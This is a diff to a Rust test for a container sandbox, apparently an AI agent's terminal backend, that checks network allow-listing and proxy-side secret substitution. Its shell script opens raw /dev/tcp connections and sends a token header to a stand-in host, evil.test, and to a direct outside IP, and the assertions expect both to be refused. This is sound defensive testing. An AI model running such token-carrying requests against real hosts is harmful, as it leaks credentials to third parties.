@@ -217,12 +217,15 @@ fn a_sandboxed_command_reaches_allowed_names_only_and_the_host_hears_of_refusals
 /// listener in the container's own network namespace (`--network=none`).
 fn container_allow_list(e: &crate::container_common::Engine) {
     let port = server("pkgs");
+    let secret = e.dir.join(format!("secret-{}.txt", e.name));
+    std::fs::write(&secret, "container-secret-4d3c2b").unwrap();
     let cfg = json!({
         "builtin_toolsets": ["terminal"],
         "approvals": {"mode": "off"},
         "terminal": {
             "backend": e.name, "kill_grace": 0.5, "docker": e.section(),
             "network": {"allow": ["pkgs.test"], "hosts": {"pkgs.test": "127.0.0.1"}},
+            "secrets": {"MY_TOKEN": {"file": secret, "hosts": ["pkgs.test"]}},
         },
     });
     let rt = match Runtime::new(&cfg.to_string()) {
@@ -235,13 +238,19 @@ fn container_allow_list(e: &crate::container_common::Engine) {
         }
     };
     let script = format!(
-        r#"req() {{ exec 3<>/dev/tcp/127.0.0.1/3128 || return; printf 'GET http://%s/ HTTP/1.1\r\n\r\n' "$1" >&3; cat <&3; exec 3<&-; }}
+        r#"req() {{ exec 3<>/dev/tcp/127.0.0.1/3128 || return; printf 'GET http://%s/ HTTP/1.1\r\nX-T: %s\r\n\r\n' "$1" "$MY_TOKEN" >&3; cat <&3; exec 3<&-; }}
+echo "seen=$MY_TOKEN"; [ -s /run/ht-ca.pem ] && echo ca-bound
 echo "proxy=$HTTP_PROXY"; req pkgs.test:{port}; echo; req evil.test:{port}; echo
 (exec 4<>/dev/tcp/93.184.216.34/80) 2>/dev/null || echo direct-failed"#
     );
     let out = run(&rt, &script);
     assert!(out.contains("proxy=http://127.0.0.1:3128"), "{out}");
     assert!(out.contains("hello from pkgs"), "{out}");
+    // The container holds a placeholder; its host got the value.
+    assert!(out.contains("seen=hermes-secret-MY_TOKEN-"), "{out}");
+    assert!(out.contains("X-T: container-secret-4d3c2b"), "{out}");
+    assert_eq!(out.matches("container-secret-4d3c2b").count(), 1, "{out}");
+    assert!(out.contains("ca-bound"), "{out}");
     assert!(
         out.contains("HTTP/1.1 403") && out.contains("evil.test") && out.contains("not-allowed"),
         "{out}"
